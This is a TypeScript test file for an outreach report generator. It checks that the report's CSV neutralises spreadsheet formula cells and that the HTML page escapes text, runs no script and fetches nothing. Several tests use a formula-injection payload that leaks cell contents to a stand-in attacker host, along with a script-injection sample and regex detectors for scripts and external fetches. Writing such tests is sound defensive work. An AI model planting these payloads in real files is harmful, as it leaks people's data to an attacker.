/**
 * The report as people open it (lambdas/domain/report-page.ts): the CSV is safe in a
 * spreadsheet in every section, the HTML page escapes what it shows, draws its four charts
 * inline as SVG and can fetch nothing (no script, no external address, a CSP that forbids it).
 *
 * Every CSV the system writes goes through csvLine (lambdas/domain/csv.ts), and each
 * writer's own output is tested for neutralised formula cells where the writer is tested:
 *   - this report's CSV: below;
 *   - the replies export: test/integration/export-replies.test.ts;
 *   - the import's rejects (and warnings) file: test/integration/import.test.ts
 *     ("writes a rejected row that starts with a formula spreadsheet-safe…");
 *   - the postcard manifest: test/unit/cadence-outputs.test.ts ("neutralises formulas in every column");
 *   - the scheduling hand-off file: test/unit/hand-off-file.test.ts ("neutralises cells a spreadsheet would run as formulas");
 *   - the appointment-changes results file: test/integration/appointments.test.ts
 *     ("a practice's appointment-changes file applies each row…", the formula row).
 */
import { parse } from 'csv-parse';
import type { OutreachReport } from '../../lambdas/domain/outreach-report';
import { rate } from '../../lambdas/domain/outreach-report';
import { reportCsv, reportHtml } from '../../lambdas/domain/report-page';

const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

/** A report whose every text cell is `text(i)`. */
function model(text: (what: string) => string): OutreachReport {
  return {
    practiceId: 'sunrise-family',
    period: { from: '2027-03-01T00:00:00.000Z', to: '2027-04-01T00:00:00.000Z' },
    generatedAt: '2027-04-01T06:30:00.000Z',
    people: 12,
    funnel: [{ cadence: text('funnel cadence'), round: 1, enrolled: 12, reachable: 10, contacted: 9, responded: 4, booked: 2, seen: 1 }],
    steps: [
      { cadence: text('step cadence'), step: text('step id'), channel: text('channel'), sent: 9, delivered: 7, failed: 1, skipped: { [text('skip reason')]: 3 } },
      { cadence: 'community-outreach', step: 'call', channel: 'call', sent: 4, delivered: 3, failed: 0, skipped: {} },
    ],
    variants: [
      { cadence: text('variant cadence'), step: text('variant step'), variant: text('variant'), sent: 5, responded: rate(2, 5), booked: rate(1, 5) },
      { cadence: text('variant cadence'), step: text('variant step'), variant: 'B', sent: 4, responded: rate(1, 4), booked: rate(0, 4) },
    ],
    variantTests: [{ cadence: text('test cadence'), step: text('test step'), a: text('variant a'), b: 'B', measure: 'responded', pValue: 0.6, significant: false }],
    dispositions: { byCode: { [text('disposition code')]: 2, 'no-answer': 3 }, byAgent: { [text('agent')]: { [text('agent code')]: 2 }, 'a-2': { 'no-answer': 3 } } },
    optOuts: { [text('opt-out channel')]: 1 },
    flags: { unhandled: 3, byKind: { [text('flag kind')]: 3 }, oldestHours: 50.5, byAge: { 'under 1 day': 1, '1–3 days': 2, 'over 3 days': 0 } },
    imports: [{ importId: text('import id'), key: text('import key'), startedAt: '2027-03-01T10:00:00.000Z', rowsRead: 25, created: 21, rejected: 3, status: text('import status') }],
  };
}

async function parseCsv(text: string): Promise<string[][]> {
  return new Promise((resolve, reject) => parse(text, { bom: true, relax_column_count: true, skip_empty_lines: true }, (e, rows: string[][]) => (e ? reject(e) : resolve(rows))));
}

/** The rows of one titled section of the report CSV (after its header row). */
function section(rows: string[][], title: string): string[][] {
  const start = rows.findIndex((r) => r.length === 1 && r[0] === title);
  if (start < 0) throw new Error(`no section "${title}"`);
  const end = rows.findIndex((r, i) => i > start + 1 && r.length === 1);
  return rows.slice(start + 2, end < 0 ? undefined : end);
}

describe('reportCsv', () => {
  it('starts with a byte-order mark and the practice, period and count of people', async () => {
    const csv = reportCsv(model((w) => w));
    expect(csv.startsWith('\uFEFFpractice,sunrise-family,from,2027-03-01T00:00:00.000Z,to,2027-04-01T00:00:00.000Z,generated,2027-04-01T06:30:00.000Z,people,12\r\n')).toBe(true);
    const rows = await parseCsv(csv);
    expect(section(rows, 'funnel')).toEqual([['funnel cadence', '1', '12', '10', '9', '4', '2', '1']]);
    expect(section(rows, 'A/B variants')[0]).toEqual(['variant cadence', 'variant step', 'variant', '5', '2', '0.400', rate(2, 5).low.toFixed(3), rate(2, 5).high.toFixed(3), '1', '0.200', rate(1, 5).low.toFixed(3), rate(1, 5).high.toFixed(3)]);
  });

  it.each(FORMULA_STARTS.map((c) => [JSON.stringify(c), c]))('neutralises a cell starting with %s in every section', async (_name, start) => {
    const rows = await parseCsv(reportCsv(model((w) => `${start}${w}`)));
    const cells = rows.flat();
    // No cell of the file starts as a formula: each text cell came out with the apostrophe first.
    expect(cells.filter((c) => FORMULA_STARTS.includes(c.charAt(0)))).toEqual([]);
    expect(cells.filter((c) => c.startsWith(`'${start}`)).length).toBeGreaterThanOrEqual(17);
  });

  it('writes =HYPERLINK(…) step ids, reasons, variants, disposition codes, agents, opt-out channels, flag kinds and import keys as text', async () => {
    const rows = await parseCsv(reportCsv(model(() => EVIL)));
    const safe = `'${EVIL}`;
    expect(section(rows, 'funnel')[0]![0]).toBe(safe);
    expect(section(rows, 'by channel and step')[0]!.slice(0, 3)).toEqual([safe, safe, safe]);
    // The reasons cell lists "reason count": it starts with the reason, so it is neutralised as a whole.
    expect(section(rows, 'by channel and step')[0]![7]).toBe(`${safe} 3`);
    expect(section(rows, 'A/B variants')[0]!.slice(0, 3)).toEqual([safe, safe, safe]);
    expect(section(rows, 'A/B tests')[0]!.slice(0, 3)).toEqual([safe, safe, safe]);
    expect(section(rows, 'dispositions by code')).toEqual([
      [safe, '2'],
      ['no-answer', '3'],
    ]);
    expect(section(rows, 'dispositions by agent')).toEqual([
      [safe, safe, '2'],
      ['a-2', 'no-answer', '3'],
    ]);
    expect(section(rows, 'opt-outs')).toEqual([[safe, '1']]);
    expect(section(rows, 'flagged for staff (unhandled)')).toEqual([
      [safe, '3'],
      ['oldest (hours)', '50.5'],
    ]);
    expect(section(rows, 'imports')).toEqual([[safe, safe, '2027-03-01T10:00:00.000Z', '25', '21', '3', safe]]);
  });
});

describe('reportHtml', () => {
  const hostile = (w: string) => `<script>alert("${w}")</script> & 'x'`;
  const page = reportHtml(model(hostile), `Sunrise <b>"Family"</b> & 'Health'`);
  const plain = reportHtml(model((w) => w.replace(/\s+/g, '-')), 'Sunrise Family Health');

  it('escapes < > & " \' in everything it shows', () => {
    expect(page).toContain('<title>Sunrise &lt;b&gt;&quot;Family&quot;&lt;/b&gt; &amp; &#39;Health&#39;: outreach 2027-03-01 to 2027-04-01</title>');
    expect(page).toContain('<h1>Sunrise &lt;b&gt;&quot;Family&quot;&lt;/b&gt; &amp; &#39;Health&#39;: what the outreach achieved</h1>');
    expect(page).toContain(`<td>&lt;script&gt;alert(&quot;import key&quot;)&lt;/script&gt; &amp; &#39;x&#39;</td>`);
    expect(page).toContain(`<td>&lt;script&gt;alert(&quot;agent&quot;)&lt;/script&gt; &amp; &#39;x&#39;</td>`);
    expect(page).not.toContain('<b>');
  });

  it.each([
    ['hostile names', page],
    ['plain names', plain],
  ])('has no script, even with %s in its charts and tables', (_name, html) => {
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/javascript:/i);
  });

  it.each([
    ['hostile names', page],
    ['plain names', plain],
  ])('draws exactly four charts, each an inline <svg> in its own figure (%s)', (_name, html) => {
    expect(html.match(/<svg[\s>]/g)).toHaveLength(4);
    const figures = [...html.matchAll(/<figure>([\s\S]*?)<\/figure>/g)].map((m) => m[1]!);
    expect(figures).toHaveLength(4);
    for (const f of figures) {
      expect(f.match(/<svg[\s>]/g)).toHaveLength(1);
      expect(f).toMatch(/<(rect|path)\b/);
    }
  });

  it('gives each cadence, step and channel its own row in the steps chart (a broadcast\'s texts and voicemails apart)', () => {
    const base = model((w) => w.replace(/\s+/g, '-'));
    const row = (channel: string) => ({ cadence: 'one-off', step: 'broadcast', channel, sent: 3, delivered: 1, failed: 0, skipped: {} });
    const html = reportHtml({ ...base, steps: [...base.steps, row('sms'), row('voicemail')] }, 'Sunrise Family Health');
    expect(html).toContain('one-off/broadcast (sms)');
    expect(html).toContain('one-off/broadcast (voicemail)');
    expect(html).toContain('community-outreach/call<');
    expect(html).not.toContain('community-outreach/call (call)');
  });

  describe('the funnel chart\'s legend', () => {
    /** The funnel figure's SVG, its legend names with the top of their row, and the plot's top and bottom (its horizontal grid lines). */
    const funnelChart = (funnel: OutreachReport['funnel']) => {
      const html = reportHtml({ ...model((w) => w.replace(/\s+/g, '-')), funnel }, 'Sunrise Family Health');
      const svg = [...html.matchAll(/<figure><figcaption>The funnel, by round<\/figcaption>([\s\S]*?)<\/figure>/g)].map((m) => m[1]!)[0]!;
      const names = new Set(funnel.map((f) => `${f.cadence} r${f.round}`));
      const legend = [...svg.matchAll(/<text[^>]*transform="translate\([\d.]+ ([\d.]+)\)"[^>]*>([^<]*)<\/text>/g)].filter((m) => names.has(m[2]!)).map((m) => ({ name: m[2]!, rowTop: Number(m[1]) }));
      const gridLines = [...svg.matchAll(/<path d="M60 ([\d.]+)L880 \1"/g)].map((m) => Number(m[1]));
      return { svg, names, legend, plotTop: Math.min(...gridLines), plotBottom: Math.max(...gridLines) };
    };
    /** A legend item is 14 px high (its icon; the 12 px name is centred on it). */
    const ITEM_HEIGHT = 14;
    const rounds = (count: number) =>
      Array.from({ length: count }, (_, i) => ({ cadence: `${i % 2 ? 'cancellation-follow-up' : 'community-outreach'}-${i}`, round: (i % 3) + 1, enrolled: 12, reachable: 10, contacted: 9, responded: 4, booked: 2, seen: 1 }));

    it('shows every cadence and round of a long funnel, wrapped onto rows that all end above the plot, which keeps its height', () => {
      const chart = funnelChart(rounds(40));

      // Every name once: a static page cannot scroll a legend, so none may be left out.
      expect(chart.legend.map((l) => l.name).sort()).toEqual([...chart.names].sort());
      expect(chart.svg).not.toMatch(/>\d+\/\d+</); // no "1/3" page counter of a scrolling legend
      const rows = [...new Set(chart.legend.map((l) => l.rowTop))];
      expect(rows.length).toBeGreaterThan(3);
      expect(Math.max(...rows) + ITEM_HEIGHT).toBeLessThan(chart.plotTop);
      expect(chart.plotBottom - chart.plotTop).toBe(210);
    });

    it('keeps a short funnel\'s legend on one row, with the plot where it always was', () => {
      const chart = funnelChart(rounds(2));

      expect(new Set(chart.legend.map((l) => l.rowTop)).size).toBe(1);
      expect(chart.legend).toHaveLength(2);
      expect({ plotTop: chart.plotTop, plotBottom: chart.plotBottom }).toEqual({ plotTop: 40.5, plotBottom: 250.5 });
    });
  });

  it('names no external address in any src or href (nothing to fetch when opened)', () => {
    for (const html of [page, plain]) {
      expect(html).not.toMatch(/\b(src|href|xlink:href|srcset|action|poster|data)\s*=\s*["']?\s*(https?:|\/\/)/i);
      expect(html).not.toMatch(/url\(\s*["']?\s*(https?:|\/\/)/i);
      expect(html).not.toMatch(/@import/i);
      expect(html).not.toMatch(/<(link|iframe|object|embed|img|base)\b/i);
    }
  });

  it('forbids every fetch with a Content-Security-Policy of default-src \'none\'', () => {
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(plain)?.[1];
    expect(csp).toBeDefined();
    expect(csp!.split(';').map((d) => d.trim())).toContain("default-src 'none'");
    // Nothing in it lets a script or a connection through.
    expect(csp).not.toMatch(/script-src|connect-src|https?:/);
  });
});
